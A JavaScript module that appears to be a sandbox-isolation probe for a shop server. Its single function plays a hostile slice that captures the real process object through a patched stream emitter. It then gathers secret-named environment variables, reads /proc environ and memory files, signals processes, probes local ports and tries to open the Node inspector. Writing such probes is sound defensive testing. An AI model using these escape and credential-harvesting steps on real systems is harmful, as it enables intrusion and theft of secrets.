'use strict';
/**
 * What a hostile slice tries on the server; part of a server bundle, or a program of its own. It needs nothing but Node's
 * `require`, changes nothing, and names what it got.
 *
 * @param {{
 *   processes: Record<string, number>,
 *   folders: Record<string, string>,
 *   ports: Record<string, number>,
 *   addresses: readonly string[],
 * }} targets processes and folders of the shop, its ports, and what it asks each of them for.
 * @returns {Promise<string[]>} names of what it got, such as `signals: edge`.
 */
// oxlint-disable-next-line no-unused-vars -- the last line of the program that it becomes calls it
async function rob({ processes, folders, ports, addresses }) {
  const got = [];
  const attempt = async (name, work) => {
    try {
      if (await work()) got.push(name);
    } catch {
      // It is refused.
    }
  };

  // Whoever holds an emitter's prototype holds what emits: the real process, if slices have another one.
  const { prototype } = Object.getPrototypeOf(require('stream'));
  const { emit } = prototype;
  const real = await new Promise((resolve) => {
    prototype.emit = function (event, ...more) {
      if (event === 'warning') resolve(this);
      return emit.call(this, event, ...more);
    };
    process.emitWarning('of Mallory');
  });
  prototype.emit = emit;

  const fs = require('fs');
  const secrets = Object.keys(real.env).filter((name) => /TOKEN|SECRET|PASSWORD|DATABASE/.test(name));
  await attempt(`environment: ${secrets.join()}`, () => secrets.some((name) => name !== 'STOREFRONT_TOKEN'));
  await attempt('programs', () => require('child_process').execFileSync('/usr/bin/id').length);
  for (const [name, pid] of Object.entries(processes)) {
    await attempt(`environments: ${name}`, () => fs.readFileSync(`/proc/${pid}/environ`).length);
    await attempt(`memory: ${name}`, () => fs.openSync(`/proc/${pid}/mem`, 'r'));
    await attempt(`signals: ${name}`, () => real.kill(pid, 0));
  }
  for (const [name, folder] of Object.entries(folders)) {
    await attempt(`files: ${name}`, () => fs.readdirSync(folder));
    await attempt(`writing: ${name}`, () => fs.accessSync(folder, fs.constants.W_OK) === undefined);
  }
  for (const [name, port] of Object.entries(ports))
    for (const address of addresses)
      await attempt(`ports: ${name} ${address}`, async () => {
        const [path, method = 'GET'] = address.split(' ').reverse();
        const answer = await fetch(`http://127.0.0.1:${port}${path}`, {
          method,
          redirect: 'manual',
          signal: AbortSignal.timeout(2000),
          ...(method === 'POST' && {
            headers: { 'content-type': 'application/json' },
            body: JSON.stringify({ query: '{ shop { name } }' }),
          }),
        });
        return answer.ok;
      });
  await attempt('inspector', async () => {
    for (const pid of [real.ppid, ...Object.values(processes)])
      await attempt('', () => !real.kill(pid, 'SIGUSR1'));
    for (let tries = 0; tries < 10; tries++) {
      const answer = await fetch('http://127.0.0.1:9229/json/list').catch(() => null);
      if (answer?.ok) return true;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    return false;
  });
  return got;
}
